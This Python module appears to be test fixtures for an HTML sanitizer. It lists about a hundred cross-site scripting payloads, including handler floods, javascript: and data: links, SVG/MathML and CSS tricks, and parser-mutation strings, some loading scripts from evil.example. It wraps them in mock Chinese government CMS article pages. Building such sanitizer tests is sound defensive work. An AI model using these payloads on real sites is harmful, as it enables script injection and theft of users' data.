# ruff: noqa: E501  (markup reads better unbroken)
"""Hostile pieces of article pages, by class of attack, and the wrappers of the editors that they are put into.

Every piece calls `trip()`, opens a dialog or asks `evil.example`, once it is allowed to. Written from the known
classes: handlers, addresses, foreign elements, styles, frames, forms, raw text, and markup that changes its meaning
when it is parsed a second time (mutation).
"""

OUT = "//evil.example/x"
JS = "trip()"
HANDLERS = (  # noqa: SIM905 - a list of words
    "onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput "
    "onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick "
    "onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave "
    "ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange "
    "ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture "
    "onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpageshow "
    "onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate "
    "onpointerup onpopstate onprogress onratechange onreadystatechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation "
    "onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle "
    "ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload "
    "onvolumechange onwaiting onwebkitanimationend onwebkittransitionend onwheel"
).split()

PIECES = {
    # script
    "script": f"<script>{JS}</script>",
    "script from outside": f"<script src={OUT}.js></script>",
    "script in capitals with a slash": f"<ScRiPt/x>{JS}</sCrIpT >",
    "script split by script": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "module script": f"<script type=module>import 'https:{OUT}.mjs';{JS}</script>",
    "script without end slash": f"<script>{JS}</script\t\n x>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"https:{OUT}"}}}}</script><script type=module>import "a"</script>',
    # handlers
    "every handler on a paragraph": f"<p {' '.join(f'{one}={JS}' for one in HANDLERS)} tabindex=0 contenteditable autofocus>可编辑</p>",
    "every handler on a picture": f"<img src=x:x {' '.join(f'{one}={JS}' for one in HANDLERS)}>",
    "every handler on a table": f"<table {' '.join(f'{one}={JS}' for one in HANDLERS)} background={OUT}.gif><tr {' '.join(f'{one}={JS}' for one in HANDLERS)}><td>格</td></tr></table>",
    "handler after a slash": f"<img/src=x:x/onerror={JS}>",
    "handler after a quote": f'<img src="x:x"onerror="{JS}">',
    "handler after a grave accent": f"<img src=`x:x`onerror={JS}>",
    "handler with a null": f"<img src=x:x o\0nerror={JS} onerror\0={JS}>",
    "handler with references": "<img src=x:x onerror=&#116;&#114;&#105;&#112;&#40;&#41;>",
    "body within the page": f"<body onload={JS} onpageshow={JS} background={OUT}.png>",
    "details that open": f"<details open ontoggle={JS}><summary>展开</summary>内容</details>",
    "video handlers": f"<video src={OUT}.mp4 poster={OUT}.png autoplay onloadstart={JS} onerror={JS}><source onerror={JS} src={OUT}.webm></video>",
    "audio handlers": f"<audio src={OUT}.mp3 autoplay onerror={JS}></audio>",
    "marquee": f"<marquee onstart={JS} onfinish={JS} loop=1>滚动</marquee>",
    "focus by itself": f"<input autofocus onfocus={JS}><select autofocus onfocus={JS}></select><textarea autofocus onfocus={JS}></textarea><keygen autofocus onfocus={JS}>",
    "custom element": f"<x-y onclick={JS} style=animation:x onanimationstart={JS} tabindex=1 onfocus={JS}>自造元素</x-y>",
    # addresses
    "javascript link": f"<a href=javascript:{JS}>点我</a>",
    "javascript link in odd spelling": f"<a href=' \x01jAvA&Tab;sc&NewLine;ript&colon;{JS}'>点我</a>",
    "javascript link with a null": f"<a href='java\0script:{JS}'>点我</a>",
    "javascript link after references": f"<a href='&#0000106avascript&#x3A;{JS}'>点我</a>",
    "javascript link with a host": f"<a href='javascript://%0a{JS}'>点我</a>",
    "view-source and feed links": f"<a href='view-source:javascript:{JS}'>一</a><a href='feed:javascript:{JS}'>二</a><a href='jar:javascript:{JS}!/'>三</a>",
    "vbscript link": "<a href='vbscript:MsgBox(1)'>点我</a>",
    "data link": f"<a href='data:text/html,<script>{JS}</script>'>点我</a>",
    "data link in base64": "<a href='data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4='>点我</a>",
    "blob and filesystem links": "<a href='blob:http://evil.example/1'>一</a><a href='filesystem:http://evil.example/temporary/x'>二</a>",
    "javascript picture": f"<img src=javascript:{JS} lowsrc=javascript:{JS} dynsrc=javascript:{JS}>",
    "lazy picture by script": f"<img src=blank.gif data-src='javascript:{JS}' data-original='data:image/svg+xml,<svg onload={JS}>'>",
    "picture that is a document": f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{JS}%22/>'>",
    "picture set": f"<picture><source srcset={OUT}.webp><img src={OUT}.png srcset='{OUT}2.png 2x' sizes=100vw></picture>",
    "image map": f"<map name=m><area href=javascript:{JS} shape=default></map><img usemap=#m src=x:x>",
    "ping and target": f"<a href=http:{OUT} ping=http:{OUT} target=_top onclick={JS}>外链</a>",
    "xlink": f"<a xlink:href=javascript:{JS} href='?'>点我</a>",
    # foreign elements
    "svg load": f"<svg onload={JS}></svg>",
    "svg script": f"<svg><script>{JS}</script></svg>",
    "svg script by reference": f"<svg><script xlink:href={OUT}.js></script><script href=data:,{JS} /></svg>",
    "svg animated link": f"<svg><a><animate attributeName=href values=javascript:{JS} /><text x=20 y=20>点</text></a></svg>",
    "svg set and begin": f"<svg><set attributeName=onmouseover to={JS} onbegin={JS} begin=0s /><animate onbegin={JS} attributeName=x dur=1s /></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>{JS}</script></svg>#x'/><use xlink:href=http:{OUT}.svg#x /></svg>",
    "svg foreignObject": f"<svg><foreignObject><iframe srcdoc='<script>parent.{JS}</script>'></iframe><body onload={JS}></foreignObject></svg>",
    "svg image and filter": f"<svg><image href=http:{OUT}.png onerror={JS} /><feImage xlink:href=http:{OUT}.png /></svg>",
    "math link": f"<math><mi href=javascript:{JS} xlink:href=javascript:{JS}>公式</mi></math>",
    "math action": f"<math><maction actiontype='statusline#http:{OUT}' xlink:href=javascript:{JS}>点</maction></math>",
    "xml island": f"<xml id=i><x><c><![CDATA[<img src=x:x onerror={JS}>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>",
    # styles
    "style element": f"<style>@import '{OUT}.css';body{{background:url({OUT}.png)}}*{{x:expression({JS})}}</style>",
    "style expression": f"<p style='width:expression({JS});text-align:expression({JS})'>表达式</p>",
    "style address": f"<div style=\"background:url(javascript:{JS});background-image:url('{OUT}.png');list-style:url({OUT}.gif)\">背景</div>",
    "style escaped": f"<p style='text-align:center;back\\67round:u\\72l({OUT}.png);beha\\76ior:url({OUT}.htc);-moz-binding:url({OUT}.xml#a)'>转义</p>",
    "style breaking out": f"<p style='text-align:center&quot;&gt;&lt;img src=x:x onerror={JS}&gt;'>引号</p>",
    "style over the page": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;text-align:left'>遮盖</div>",
    "style sheet link": f"<link rel=stylesheet href={OUT}.css><link rel=preload as=image href={OUT}.png><link rel=prefetch href={OUT}><link rel=import href={OUT}><link rel=dns-prefetch href={OUT}>",
    "conditional comment": f"<!--[if IE]><script>{JS}</script><![endif]--><![if !IE]><img src=x:x onerror={JS}><![endif]>",
    # frames, forms, the page's head
    "srcdoc": f"<iframe srcdoc='<script>parent.{JS}</script><img src={OUT}.png>'></iframe>",
    "frame by script": f"<iframe src=javascript:parent.{JS}></iframe><iframe src=http:{OUT}></iframe><iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "frame of a document by script": f"<iframe src='javascript:{JS}//a.pdf'></iframe><embed src='javascript:{JS}//a.pdf'>",
    "object and embed": f"<object data='data:text/html,<script>parent.{JS}</script>'></object><embed src=http:{OUT}.swf allowscriptaccess=always><object data=http:{OUT}.html><param name=movie value=http:{OUT}.swf></object><applet code=x codebase=http:{OUT}></applet>",
    "portal and fenced frame": f"<portal src=http:{OUT}></portal><fencedframe src=http:{OUT}></fencedframe>",
    "base": "<base href=http://evil.example/ target=_top>",
    "base by script": f"<base href='javascript:{JS}//'><a href='#x'>点我</a>",
    "form": f"<form action=javascript:{JS} id=f><input type=submit value=提交 formaction=javascript:{JS}><input type=image src={OUT}.png><button form=f formaction=javascript:{JS}>按</button></form><isindex action=javascript:{JS} type=image>",
    "refresh": f"<meta http-equiv=refresh content='0;url=http:{OUT}'><meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    "cookie and policy by meta": "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "clobbering": f"<img name=trip><a name=implementation></a><form name=document><input name=cookie></form><img name=getElementById src=x:x onerror={JS}>",
    "manifest and popover": f"<button popovertarget=q>开</button><div popover id=q onbeforetoggle={JS}>浮层</div><link rel=manifest href={OUT}>",
    # raw text
    "template": f"<template><img src=x:x onerror={JS}><script>{JS}</script></template>",
    "declared shadow": f"<div><template shadowrootmode=open><img src=x:x onerror={JS}><slot></slot></template>影子</div>",
    "noscript": f'<noscript><p title="</noscript><img src=x:x onerror={JS}>">无脚本</p></noscript>',
    "textarea": f'<textarea><p title="</textarea><img src=x:x onerror={JS}>">文本框</p></textarea>',
    "title": f'<title><p title="</title><img src=x:x onerror={JS}>"></title>',
    "xmp": f'<xmp><p title="</xmp><img src=x:x onerror={JS}>"></xmp>',
    "noembed and noframes": f'<noembed><p title="</noembed><img src=x:x onerror={JS}>"></noembed><noframes><p title="</noframes><img src=x:x onerror={JS}>"></noframes>',
    "iframe text": f'<iframe><p title="</iframe><img src=x:x onerror={JS}>"></iframe>',
    "comment bang": f"<!--!><img src=x:x onerror={JS}>--!><img src=x:x onerror={JS}><!--->-->",
    "bogus comment": f"<?xml version=1><img src=x:x onerror={JS}>?><!x <img src=x:x onerror={JS}>></ x><img src=x:x onerror={JS}>",
    "cdata": f"<![CDATA[><img src=x:x onerror={JS}>]]>",
    "escaped text": f"&lt;script&gt;{JS}&lt;/script&gt;&lt;img src=x:x onerror={JS}&gt;",
    "attribute text": f"<img alt='<img src=x:x onerror={JS}>' title='\"><script>{JS}</script>' src=/a.jpg>",
    "escaped twice": f"&amp;lt;img src=x:x onerror={JS}&amp;gt;",
    "wide brackets": f"＜script＞{JS}＜/script＞\u00bcscript\u00be{JS}\u00bc/script\u00be",
    # mutation
    "mutation: style in svg": f'<svg></p><style><a id="</style><img src=x:x onerror={JS}>">',
    "mutation: style in math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror={JS}&gt;"></table></mtext></math>',
    "mutation: malignmark": f'<math><mtext><table><malignmark><style><img title="</style><img src=x:x onerror={JS}>"></table></mtext></math>',
    "mutation: desc in svg": f'<svg><desc><style><p title="</style><img src=x:x onerror={JS}>"></style></desc></svg>',
    "mutation: title in svg": f'<svg><title><style><a title="</style></title></svg><img src=x:x onerror={JS}>"></style></title></svg>',
    "mutation: annotation": f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x:x onerror={JS}>"></annotation-xml></math>',
    "mutation: xmp in svg": f'<svg><xmp><p title="</xmp><img src=x:x onerror={JS}>"></xmp></svg>',
    "mutation: noscript": f"<noscript><style></noscript><img src=x:x onerror={JS}></style>",
    "mutation: textarea in svg": f'<svg><textarea><p title="</textarea><img src=x:x onerror={JS}>"></textarea></svg>',
    "mutation: select": f"<select><template><style><!--</select><a rel=\"--></style></template></select><img src=x:x onerror={JS}>\">",
    "mutation: select and svg": f"<select><svg><style><a title=\"</style></select><img src=x:x onerror={JS}>\"></style></svg></select>",
    "mutation: comment in svg": f'<svg><!--<p title="--><img src=x:x onerror={JS}>">--></svg>',
    "mutation: cdata in svg": f'<svg><![CDATA[<p title="]]><img src=x:x onerror={JS}>">]]></svg>',
    "mutation: cdata in math": f"<math><style><![CDATA[</style><img src=x:x onerror={JS}>]]></style></math>",
    "mutation: table fostering": f"<table><svg><tr><style><a title='</style><img src=x:x onerror={JS}>'></table>",
    "mutation: grave accents": f"<img alt='``onerror={JS}' src=x:x title='`` onmouseover={JS}'>",
    "mutation: listing": f"<listing>&lt;img onerror={JS} src=x:x&gt;</listing><pre>\n&lt;img onerror={JS} src=x:x&gt;</pre>",
    "mutation: paragraph in button": f'<p><button><p><svg><style><a title="</style><img src=x:x onerror={JS}>"></button>',
    "mutation: frames of anchors": f'<a href=x><table><a href="javascript:{JS}"><b><p>点</a></table>',
    "mutation: template in math": f'<math><mtext><template><mglyph><style><img title="</style><img src=x:x onerror={JS}>"></template></mtext></math>',
    "mutation: deep nesting": "<div>" * 520 + f'<svg><style><a title="</style><img src=x:x onerror={JS}>"></svg>' + "</div>" * 520,
    "mutation: entities in style": f"<svg><style>&lt;img src=x:x onerror={JS}&gt;</style></svg>",
    "mutation: head and frameset": f"<frameset onload={JS}><frame src=javascript:parent.{JS}></frameset></head><head onload={JS}>",
    "mutation: plain angle": f"<<img src=x:x onerror={JS}>><a<b><img/<img src=x:x onerror={JS}>",
    "our own tokens": f"\ufdd00\ufdd1&#xfdd0;0&#xfdd1;<iframe src='/a.pdf&quot;onload={JS}&quot;'></iframe>",
}  # fmt: skip

# What a browser reads up to its end tag, which never comes: nothing behind it is text of the page.
SWALLOWING = {
    "open textarea": f"<textarea><img src=x:x onerror={JS}>",
    "open comment": f"<!--<img src=x:x onerror={JS}>",
    "open script": f"<script>{JS};",
    "open attribute": f"<img src=x:x onerror={JS} title=\"",
    "plaintext": f"<plaintext><img src=x:x onerror={JS}>",
    "open style in nested forms (mutation)": f"<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror={JS}></form></math>",
    "open style": f"<style>@import '{OUT}.css';",
}  # fmt: skip

WRAPPERS = {
    "TRS_Editor": ("<div class='TRS_Editor'>", "</div>"),
    "vsb": ("<form name='_newscontent_fromname'><div id='vsb_content_4'><div class='v_news_content'>", "</div></div></form>"),
    "UCAP": ("<div id='UCAP-CONTENT'>", "</div>"),
    "table": ("<table width=90%><tr><td id=Zoom>", "</td></tr></table>"),
}  # fmt: skip


def article(piece: str, wrapper: str, *, title: str, before: str, after: str) -> bytes:
    """Give an article page with the piece between two paragraphs of its body."""
    opening, closing = WRAPPERS[wrapper]
    return (
        f"<!doctype html><html><head><meta charset=utf-8><title>{title}_栖云县农业农村局</title></head><body>"
        "<div class=crumb>当前位置：<a href=/>首页</a> &gt; <a href=/tzgg/>通知公告</a></div>"
        f"<div class=main><h1 class=bt>{title}</h1><div class=info>发布时间：2019-05-06 来源：县农业农村局</div>"
        f"{opening}<p>{before}</p>{piece}<p>{after}</p>{closing}</div>"
        "<div class=foot>版权所有：栖云县农业农村局</div></body></html>"
    ).encode()
